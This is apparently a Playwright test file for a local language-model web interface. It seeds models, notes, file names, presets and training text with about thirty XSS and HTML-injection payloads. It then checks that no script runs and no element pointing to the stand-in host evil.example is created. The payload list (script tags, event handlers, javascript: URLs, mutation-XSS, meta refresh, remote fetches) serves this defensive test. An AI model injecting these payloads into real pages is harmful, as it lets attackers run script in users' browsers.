"""Texts that would run or fetch something if a page took them for markup, in every place that shows text of others."""

import json
import re
import shutil
from pathlib import Path

import pytest
import torch
from page_checks import NEEDS_BROWSER, RunningDesk, choose, open_page, put, unfold

from gptdesk.desk import Desk
from gptdesk.generation import GenerationRequest, collect
from gptdesk.settings import Settings
from models.checkpoint import About, save_checkpoint
from models.gpt import GPT, GPTConfig
from models.manager import ModelKey
from models.tokenizer import Tokenizer, train_bpe
from samplers import Chain, build

sync_api = pytest.importorskip("playwright.sync_api")
pytestmark = NEEDS_BROWSER
# Each sets window.pwned, or asks evil.example for something.
PAYLOADS = (
    "<script>pwned=1</script>",
    "<ScRiPt src=https://evil.example/1.js></sCrIpT>",
    "</script><script>pwned=3</script>",
    "</textarea><script>pwned=4</script>",
    "<img src=x onerror=pwned=5>",
    '<img src="https://evil.example/6.png">',
    "<img/src/onerror=pwned=7>",
    "<svg onload=pwned=8>",
    "<svg><script>pwned=9</script></svg>",
    "<svg><animate onbegin=pwned=10 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=11>",
    "<iframe src=javascript:parent.pwned=12></iframe>",
    "<iframe srcdoc='<script>parent.pwned=13</script>'></iframe>",
    "<object data=https://evil.example/14></object>",
    "<embed src=https://evil.example/15>",
    "<link rel=stylesheet href=https://evil.example/16.css>",
    "<style>@import 'https://evil.example/17.css';</style>",
    "<style>*{background:url(https://evil.example/18.png)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/19'>",
    "<base href=https://evil.example/20/>",
    "<body onload=pwned=21>",
    "<input autofocus onfocus=pwned=22>",
    "<details open ontoggle=pwned=23>",
    "<video><source onerror=pwned=24>",
    "<audio src=https://evil.example/25.mp3 autoplay>",
    "<a href=javascript:pwned=26 id=evil>evil.example</a>",
    "![evil.example](https://evil.example/27.png)",
    "[evil.example](javascript:pwned=28)",
    "$\\href{javascript:pwned=29}{evil.example}$ $$\\includegraphics{https://evil.example/29.png}$$",
    "${pwned=30} {{constructor.constructor('pwned=30')()}} `<img src=x onerror=pwned=30>`",
)
ALL = "\n".join(PAYLOADS)
SHORT = PAYLOADS[4]  # for places that take few characters
# elements that only a payload can have made
MADE = (
    '[onerror],[onload],[onbegin],[ontoggle],[onfocus],[src*="evil.example"],[href*="evil.example"],'
    '[data*="evil.example"],[href^="javascript" i],[srcdoc],math mglyph,meta[http-equiv=refresh],base[href*=evil]'
)


def reciting(texts: str, tokenizer: Tokenizer) -> GPT:
    """Return a network that writes `texts` after an empty prompt: each position has one channel, and so its token."""
    ids = tokenizer.encode(texts)
    channels = len(ids) + 1
    config = GPTConfig(tokenizer.vocab_size, block_size=channels, n_layer=1, n_head=1, n_embd=channels, tied=False)
    model = GPT(config)
    with torch.no_grad():
        for weight in model.parameters():
            weight.zero_()
        model.ln_f.weight.fill_(1)
        model.wpe.weight.copy_(torch.eye(channels))
        model.lm_head.weight[ids, torch.arange(len(ids))] = 10.0
    return model


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a home whose models, notes, texts and file names are hostile."""
    home = tmp_path_factory.mktemp("home")
    tokenizer = train_bpe([ALL] * 3, vocab_size=2_000)
    about = About(source=ALL, data=ALL, created=SHORT, licence=ALL)
    save_checkpoint(home / "models" / "evil", reciting(ALL, tokenizer), tokenizer=tokenizer, about=about)
    shutil.copytree(home / "models" / "evil", home / "models" / SHORT)  # no name that the desk would give
    (home / "models" / "broken").mkdir()
    (home / "models" / "broken" / "config.json").write_text(json.dumps({"model_type": ALL}))
    (home / "samplers").mkdir()
    (home / "samplers" / f"{SHORT}.py").write_text(f"raise RuntimeError({ALL!r})")
    desk = Desk(Settings(home=home))
    request = GenerationRequest(prompt="", chain=Chain(samplers=(build("greedy"),)), max_new_tokens=1_000)
    texts = collect(desk.generate(ModelKey("evil"), request, origin="cli"), n=1).texts
    assert texts[0].startswith(ALL)  # the model says it all
    collect(desk.generate(ModelKey("evil"), GenerationRequest(prompt=ALL[:900], max_new_tokens=1), origin="cli"), n=1)
    for entry in desk.history.search():
        desk.history.annotate(entry.id, note=ALL, tags=("<svg/onload=pwned=8>", "<img/src/onerror=pwned=7>"))
    return home


def unharmed(page: "sync_api.Page", where: str, shown: str | None = None) -> None:
    """Require that nothing has run and nothing was made, and that the text is shown as it stands."""
    if shown is not None:
        sync_api.expect(page.locator(shown)).to_contain_text("<img src=x onerror=pwned=5>", timeout=60_000)
    assert page.evaluate("window.pwned") is None, where
    made = page.evaluate(f"[...document.body.querySelectorAll({MADE!r})].map(one => one.outerHTML.slice(0, 200))")
    assert made == [], where


def test_nothing_runs_and_nothing_is_fetched(page: "sync_api.Page", desk: RunningDesk, tmp_path: Path) -> None:
    """The fixture of the page fails on a request to elsewhere and on an error in the console, too."""
    unharmed(page, "the page as it opens, with the error of a plugin")
    choose(page, "model", "evil")
    choose(page, "preset", "Most likely word")
    put(page, "max-new-tokens", 900)
    page.locator("#generate").click()
    page.wait_for_function("document.querySelector('#text-1 textarea').value.includes('pwned=30')", timeout=60_000)
    unharmed(page, "a text of the model")
    page.locator("#prompt textarea").fill(ALL)
    unfold(page, "preset-options")
    page.locator("#preset-name").locator("input, textarea").fill(SHORT)
    page.locator("#preset-save").click()
    sync_api.expect(page.get_by_text(f"Saved as {SHORT}.")).to_be_visible()
    page.get_by_role("button", name="More").click()
    page.locator("#stop-strings textarea").fill(ALL)
    page.locator("#generate").click()
    sync_api.expect(page.locator("#figures")).to_contain_text("stop", timeout=60_000)
    unharmed(page, "a prompt, a preset and a mistake")
    page.get_by_role("button", name="Use from code").click()
    sync_api.expect(page.locator("#code-note")).to_contain_text("⚠")
    page.locator("#prompt textarea").fill(ALL[:900])
    page.locator("#stop-strings textarea").fill(SHORT)
    put(page, "max-new-tokens", 10)
    sync_api.expect(page.locator("#code-note")).to_contain_text("The request on screen")  # it follows by itself
    unharmed(page, "code", "#request-code .cm-content")

    page.get_by_role("tab", name="Compare").click()
    choose(page, "compare-a-model", "evil")
    choose(page, "compare-b-model", "evil")
    page.locator("#compare-prompt textarea").fill(ALL[:900])
    page.locator("#watch").click()
    sync_api.expect(page.locator("#watch-line")).to_contain_text("Ended", timeout=60_000)
    unharmed(page, "Watch", "#watch-1")
    page.get_by_role("tab", name="Prompt list").click()
    page.locator("#prompts textarea").fill("\n".join(PAYLOADS[3:9]))
    page.locator("#compare-all").click()
    unharmed(page, "a list of prompts", "#prompts-table")

    page.get_by_role("tab", name="Models").click()
    sync_api.expect(page.locator("#models-table")).to_contain_text("evil")
    choose(page, "models-chosen", "evil")
    unharmed(page, "about.json", "#models-facts")
    choose(page, "models-chosen", "broken")
    sync_api.expect(page.locator("#models-problem")).to_be_visible()
    unharmed(page, "config.json")
    page.locator("#models-import-box > button").click()
    page.locator("#models-import-path input, #models-import-path textarea").fill(f"/{SHORT}")
    page.locator("#models-import").click()
    sync_api.expect(page.locator("#models-import-line")).to_contain_text("⚠", timeout=60_000)
    unharmed(page, "a path to import")

    page.get_by_role("tab", name="History").click()
    page.locator("#history-list label").last.click()
    unharmed(page, "a text, a note and tags of the history", "#history-texts")

    page.get_by_role("tab", name="Train").click()
    page.locator("#train-text textarea").fill(f"{ALL}\n" * 8)
    page.locator("#train-advanced > button").click()
    page.locator("#train-tokenizer input").fill("chars")
    page.locator("#train-tokenizer input").press("Tab")
    page.locator("#train-size input").click()
    page.get_by_role("option", name=re.compile("^tiny:")).click()
    page.locator("#train-more-model > button").click()
    put(page, "train-block-size", 32)
    page.locator("#train-more-training > button").click()
    put(page, "train-batch-size", 4)
    page.locator("#train-preview").click()
    sync_api.expect(page.locator("#train-rows .row-of-text").first).to_be_visible(timeout=60_000)
    unharmed(page, "a text to train on")
    file = tmp_path / f"{SHORT}.txt"
    file.write_text(f"{ALL}\n" * 8, encoding="utf-8")
    page.get_by_label("Choose files").check()
    page.locator("#train-files input[type=file]").set_input_files([file])
    sync_api.expect(page.locator("#train-files")).to_contain_text("<img")
    page.locator("#train-preview").click()
    sync_api.expect(page.locator("#train-rows .row-of-text").first).to_be_visible(timeout=60_000)
    name = page.locator("#train-name input")
    name.fill(SHORT)
    name.press("Tab")
    sync_api.expect(name).to_have_value("img-src-x-onerror-pwned-5")
    unharmed(page, "the name of a file and of a run")

    page.wait_for_timeout(500)  # until the stream of the event is closed
    open_page(page, desk)  # with all that was remembered
    page.wait_for_timeout(500)
    unharmed(page, "the page once more")
